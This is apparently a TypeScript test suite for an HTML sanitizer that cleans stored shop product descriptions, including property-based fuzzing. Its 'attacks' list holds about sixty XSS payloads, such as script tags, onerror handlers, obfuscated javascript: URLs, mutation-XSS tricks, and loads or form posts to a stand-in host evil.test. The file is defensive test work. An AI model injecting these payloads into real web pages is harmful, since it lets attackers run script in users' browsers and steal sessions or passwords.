import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const names =
  'p|br|hr|h3|h4|ul|ol|li|strong|b|em|i|sub|sup|span|div|table|caption|thead|tbody|tr|th|td|a|dl|dt|dd'
/** A tag as a browser reads it and nothing else: known, with known attributes whose values can't end early. */
const tag = new RegExp(
  `<(?:/(?:${names})|(?:${names})(?: (?:href|rel|scope|colspan|rowspan)="(?:[^"<>&]|&(?:amp|lt|gt|quot);)*")*(?: /)?)>`,
  'g',
)
const entities: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' }

const schemes = ['http:', 'https:', 'mailto:', 'tel:']

/** All markup that is not known to be harmless: what could run, load, frame or restyle. */
const dangers = (html: string): string[] => {
  const strange = html.replace(tag, '').match(/[<>].{0,40}/g) ?? []
  const links = [...html.matchAll(tag)].flatMap(([written]) => / href="([^"]*)"/.exec(written)?.[1] ?? [])
  const addresses = links.map((href) => href.replace(/&\w+;/g, (entity) => entities[entity] ?? entity))
  const elsewhere = addresses.filter((address) => {
    const url = URL.parse(address, 'https://shop.test/shop')
    return url && !schemes.includes(url.protocol)
  })
  return [...strange, ...elsewhere]
}

/** The elements that a text leaves open, and those of others that it closes. */
const listUnclosedTags = (html: string): string[] => {
  const open: string[] = []
  for (const [written] of html.matchAll(tag)) {
    const [, closing, name = ''] = /^<(\/?)(\w+)/.exec(written) ?? []
    if (!closing && !['br', 'hr'].includes(name)) open.push(name)
    if (closing && open.pop() !== name) return [`</${name}>`]
  }
  return open
}

/** Ways to smuggle a script into a stored text. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\t>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="position:fixed;inset:0">',
  '<IMG """><SCRIPT>alert("x")</SCRIPT>">',
  '<img src=`x`onerror=alert(1)>',
  '<image/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="//evil.test/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://ok.test" target="_top" ping="//evil.test" style="x">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))" onmouseover=alert(1)>x</p>',
  '<div id="root" class="fixed inset-0" data-x="1">x</div>',
  '<style>@import "//evil.test/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td style="x" onclick=alert(1) colspan="2">x</td>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>',
  '<p/onmouseover=alert(1)>x',
  '<p\u0000onclick=alert(1)>x</p>',
  '<a href="//evil.test" onfocus=alert(1) autofocus>x</a>',
]

describe('a description', () => {
  it.each(attacks)('leaves nothing that runs, loads or restyles of %j', (html) => {
    expect(dangers(cleanHtml(html))).toEqual([])
    expect(dangers(cleanHtml(`<table><tr><td>${html}</td></tr></table>`))).toEqual([])
    expect(dangers(cleanHtml(`<p title='${html}'>${html}</p>`))).toEqual([])
  })

  it('leaves nothing of them put together either, and never ends an element of the page around it', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...attacks,
        '<p>',
        '</p>',
        '</div>',
        '</td></tr></table>',
        '<li>',
        '<br>',
        '<table>',
        '<a href="',
        '">',
        '<',
        '>',
        '"',
        "'",
        '&lt;',
        '<!--',
        '-->',
      ),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 5 }), (pieces) => {
        const once = cleanHtml(pieces.join(''))
        expect(dangers(once)).toEqual([])
        expect(dangers(cleanHtml(once))).toEqual([])
        expect(listUnclosedTags(once)).toEqual([])
      }),
    )
  })

  it.each([
    '<p>Bolt, <strong>zinc plated</strong>, <em>ISO 4017</em>, H<sub>2</sub>O, m<sup>2</sup></p>',
    '<ul><li>one</li><li>two<ol><li>three</li></ol></li></ul>',
    '<table><caption>Sizes</caption><thead><tr><th scope="col" colspan="2">Size</th></tr></thead>' +
      '<tbody><tr><td rowspan="2">M8</td><td>30</td></tr></tbody></table>',
    '<dl><dt>Material</dt><dd>Steel</dd></dl>',
    '<h3>Use</h3><p>One<br />two</p><hr />',
    'Only text, 5 &lt; 6 &amp; 7 &gt; 6',
  ])('keeps %j as it is', (html) => {
    expect(cleanHtml(html)).toBe(html)
  })

  it.each(['https://a.test/x?y=1', 'http://a.test', 'mailto:sales@a.test', 'tel:+62215550100', '/shop'])(
    'keeps a link to %s, which passes nothing on',
    (address) => {
      const html = cleanHtml(`<a href="${address}" title="x">here</a>`)
      expect(html).toContain(`href="${address}"`)
      expect(html).toContain('rel="nofollow noopener"')
      expect(html).not.toContain('title')
    },
  )

  it('has no headings as large as the page’s own', () => {
    expect(cleanHtml('<h1>A</h1><h2>B</h2><h4>C</h4>')).toBe('<h3>A</h3><h3>B</h3><h4>C</h4>')
  })

  it('keeps the words of removed elements, but not of scripts and styles', () => {
    expect(cleanHtml(' <section><font color="red">Red</font> bolt</section> ')).toBe('Red bolt')
    expect(cleanHtml('<script>one</script><style>two</style>three')).toBe('three')
  })
})
